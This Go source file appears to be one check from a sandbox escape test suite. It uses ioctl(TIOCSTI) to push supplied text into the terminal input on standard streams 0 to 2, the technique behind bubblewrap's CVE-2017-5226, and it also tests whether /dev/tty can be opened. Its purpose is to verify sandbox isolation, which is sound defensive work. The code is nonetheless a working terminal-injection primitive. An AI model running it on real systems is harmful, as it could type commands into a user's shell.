package main

import (
	"fmt"
	"unsafe"

	"golang.org/x/sys/unix"
)

// tiocsti is bubblewrap's CVE-2017-5226: ioctl(TIOCSTI) pushes characters
// into a terminal's input as if typed, so a box whose terminal is the
// caller's could type commands into the caller's shell after it exits.
// The suite gives the box a terminal of its own (or none it may control)
// and reads what reached its own.
//
// Usage: attack tiocsti TEXT
//
// ESCAPED: the ioctl succeeded on one of the standard streams.
func tiocsti(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("usage: tiocsti TEXT")
	}
	for fd := 0; fd < 3; fd++ {
		var err error
		for i := 0; i < len(args[0]) && err == nil; i++ {
			c := args[0][i]
			_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
			if e != 0 {
				err = e
			}
		}
		attempt(fmt.Sprintf("TIOCSTI on fd %d", fd), err, "typed %q into the terminal", args[0])
	}
	fd, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(fd)
	}
	attempt("open /dev/tty", err, "the box has a controlling terminal")
	return nil
}
